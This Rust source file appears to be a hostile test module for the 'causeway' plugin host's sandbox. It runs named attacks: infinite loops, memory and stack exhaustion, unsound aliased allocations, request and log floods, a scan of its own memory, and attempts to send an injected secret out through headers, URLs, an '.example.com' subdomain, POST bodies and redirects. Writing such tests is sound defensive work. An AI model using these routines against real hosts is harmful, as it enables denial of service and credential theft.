//! What listings do. A listing that the host lets through shows what was found as the name of its only entry.

use std::sync::atomic::{AtomicU32, Ordering};

use crate::causeway::provider::{crypto, http, log, random, requests, secret_uses, state, types};
use crate::{error, file, given, request, secret, text};

type Listed = Result<types::Page, types::Error>;

/// Counts calls, if memory outlives them.
static CALLS: AtomicU32 = AtomicU32::new(0);

pub(crate) fn list(attack: &str, cursor: Option<String>) -> Listed {
    match attack {
        "" => found("fine"),
        "loop" => loop_for_ever(),
        "allocate" => allocate(),
        "amplify" => amplify(),
        "trap" => core::arch::wasm32::unreachable(),
        "recurse" => found(&recurse(1).to_string()),
        "same-cursor" => Ok(types::Page { entries: Vec::new(), next: Some(cursor.unwrap_or("here".into())) }),
        "named" => found(&given("target")),
        "nul" => found("a\0b"),
        "nameless" => found(""),
        "many" => Ok(types::Page { entries: (0..20_000).map(|at| file(&at.to_string())).collect(), next: None }),
        "cookie" => page(types::Entry { cookie: Some("c".repeat(5 << 10)), ..file("a") }),
        "nanoseconds" => {
            let modified = Some(types::Instant { seconds: 0, nanoseconds: 2_000_000_000 });
            page(types::Entry { modified, ..file("a") })
        }
        "remember" => found(&(CALLS.fetch_add(1, Ordering::Relaxed) + 1).to_string()),
        "requests" => requests(65),
        "wait" => requests(60),
        "side-by-side" => found(&http::send_all(&vec![request("GET", &given("endpoint")); 33]).len().to_string()),
        "log" => {
            (0..10_000).for_each(|at| log::write(log::Level::Warning, &format!("{at} {}", "x".repeat(5_000))));
            found("logged")
        }
        "random" => found(&random::bytes(5_000).len().to_string()),
        "state" => {
            let before = state::get("key").map_or(0, |held| held.change);
            state::set("key", b"value", None)?;
            found(&before.to_string())
        }
        "slot" => state::seal("undeclared", b"value").and_then(|()| found("sealed")),
        "steps" => sign(&["20260101"]),
        "memory" => scan(),
        "reveal" => reveal(),
        _ => send(attack),
    }
}

fn page(entry: types::Entry) -> Listed {
    Ok(types::Page { entries: vec![entry], next: None })
}

fn found(name: &str) -> Listed {
    page(file(name))
}

pub(crate) fn loop_for_ever() -> ! {
    let mut at = 0u32;
    loop {
        at = core::hint::black_box(at.wrapping_add(1));
    }
}

fn allocate() -> ! {
    let mut all = Vec::new();
    loop {
        all.push(core::hint::black_box(vec![1u8; 1 << 20]));
    }
}

fn recurse(depth: u64) -> u64 {
    let space = core::hint::black_box([depth; 64]);
    recurse(depth + 1) + space[(depth % 64) as usize]
}

/// Ten thousand entries that share one text of a megabyte: little here, much for a host that copies each of them.
fn amplify() -> Listed {
    let shared = "m".repeat(1 << 20);
    let (at, length) = (shared.as_ptr().cast_mut(), shared.len());
    // SAFETY: none. The texts overlap and none is ever freed; the instance ends with this call.
    let alias = || unsafe { String::from_raw_parts(at, length, length) };
    let entries = (0..10_000).map(|_| types::Entry { media_type: Some(alias()), ..file("a") }).collect();
    core::mem::forget(shared);
    Ok(types::Page { entries, next: None })
}

/// Sends so many requests one after the other, and tells how many were answered.
fn requests(count: u32) -> Listed {
    for at in 0..count {
        if let Err(error) = http::send(&request("GET", &given("endpoint"))) {
            return Err(types::Error { message: format!("after {at}: {}", error.message), ..error });
        }
    }
    found(&count.to_string())
}

fn sign(steps: &[&str]) -> Listed {
    let steps: Vec<_> = steps.iter().map(|step| step.to_string()).collect();
    let key = requests::SecretRef { name: "secret".into(), field: None };
    crypto::hmac(&key, secret_uses::Hash::Sha256, &steps, &[text("message")])
        .and_then(|made| found(&made.len().to_string()))
}

fn bearer(request: requests::Request) -> requests::Request {
    let value = vec![text("Bearer "), secret()];
    requests::Request { headers: vec![requests::Header { name: "Authorization".into(), value }], ..request }
}

/// Sends the secret where it must not go, or where it may.
fn send(attack: &str) -> Listed {
    let endpoint = given("endpoint");
    let get = |url: &str| request("GET", url);
    let wrong = match attack {
        "header" => {
            let header = requests::Header { name: "X-Note".into(), value: vec![secret()] };
            requests::Request { headers: vec![header], ..get(&endpoint) }
        }
        "wrapped" => {
            let value =
                vec![text("Bearer "), requests::Piece::Open(requests::Wrap::Hex), secret(), requests::Piece::Close];
            requests::Request {
                headers: vec![requests::Header { name: "Authorization".into(), value }],
                ..get(&endpoint)
            }
        }
        "host" => requests::Request { url: vec![text("http://"), secret(), text(".example.com/")], ..get("") },
        "path" => requests::Request { url: vec![text(&endpoint), text("/"), secret()], ..get("") },
        "query" => requests::Request { url: vec![text(&endpoint), text("/?q="), secret()], ..get("") },
        "body" => requests::Request { body: vec![text("note="), secret()], ..request("POST", &endpoint) },
        "elsewhere" => bearer(get(&given("target"))),
        "right" => bearer(get(&endpoint)),
        "redirect" => requests::Request { redirects: 3, ..bearer(get(&endpoint)) },
        _ => return Err(error(types::ErrorKind::Invalid, "there is no such attack")),
    };
    http::send(&wrong).and_then(|answer| found(&answer.status.to_string()))
}

/// Uses the secret in both ways that are allowed, then looks for it in all of its own memory.
fn scan() -> Listed {
    sign(&["20260101", "region", "service", "aws4_request"])?;
    send("right")?;
    // What is looked for must not lie there because it is looked for.
    let inverted = given("inverted");
    let inverted = inverted.as_bytes();
    let size = core::arch::wasm32::memory_size(0) << 16;
    // The optimizer knows that nothing lies at 0; it need not.
    let at = |address: usize| unsafe { core::ptr::read_volatile(address as *const u8) };
    let bare = |at: usize| inverted[at] ^ 1;
    let stands = |start: usize| (0..inverted.len()).all(|offset| at(start + offset) == bare(offset));
    let times = (1..size - inverted.len()).filter(|start| stands(*start)).count();
    // That the scan finds what is there at all: the inverted text does lie in memory.
    let stands = |start: usize| (0..inverted.len()).all(|offset| at(start + offset) == inverted[offset]);
    let control = (1..size - inverted.len()).any(stands);
    found(&format!("{times} {control}"))
}

#[cfg(feature = "revealing")]
fn reveal() -> Listed {
    let secret = requests::SecretRef { name: "secret".into(), field: None };
    crate::causeway::provider::reveal::reveal(&secret).and_then(|secret| found(&secret.len().to_string()))
}

#[cfg(not(feature = "revealing"))]
fn reveal() -> Listed {
    Err(error(types::ErrorKind::Invalid, "there is no such attack"))
}
